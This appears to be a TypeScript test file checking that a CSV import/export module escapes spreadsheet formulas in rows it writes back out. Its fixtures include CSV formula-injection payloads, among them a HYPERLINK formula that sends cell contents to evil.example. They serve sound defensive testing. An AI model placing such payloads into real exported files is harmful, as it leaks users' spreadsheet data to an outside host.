import { localProblem } from '@postern/api/client'
import { expect, it } from 'vitest'
import { readImportFile } from './read-import-file.ts'
import { importTemplate, writeFailedRows } from './write-import-file.ts'

const encode = (text: string) => new TextEncoder().encode(text)

it('a template can be read as it is', () => {
	const read = readImportFile(encode(importTemplate()))
	expect(read.ok && read.value.map(({ address, tags }) => [address, tags.join('|')])).toEqual([
		['https://blog.example', 'client A|production'],
		['https://shop.example', ''],
	])
})

it('what failed can be read again, says why, and is no formula', () => {
	const row = { line: 2, address: '=cmd()', username: '@ann', name: '東京, "best"', tags: ['a', 'b'] }
	const text = writeFailedRows(
		[
			{ row, problem: localProblem('address/malformed') },
			{ row: { ...row, username: 'b' }, problem: undefined },
		],
		'en',
	)
	expect(text).toContain('address/malformed')
	expect(text.split('\r\n')[1]).toMatch(/^"?'=cmd/)
	const read = readImportFile(encode(text))
	expect(read.ok && read.value[0]).toMatchObject({ name: row.name, tags: row.tags, password: undefined })
})

it.each(['=HYPERLINK("http://evil.example/"&A1)&"\n"', '＝cmd()', '-1+1\r\n2'])(
	'T96 %j is no formula either',
	(name) => {
		const row = { line: 2, address: 'blog.example', username: 'ann', name, tags: [] }
		const text = writeFailedRows([{ row, problem: undefined }], 'en')
		expect(text).toContain(`'${name.slice(0, 4)}`)
	},
)
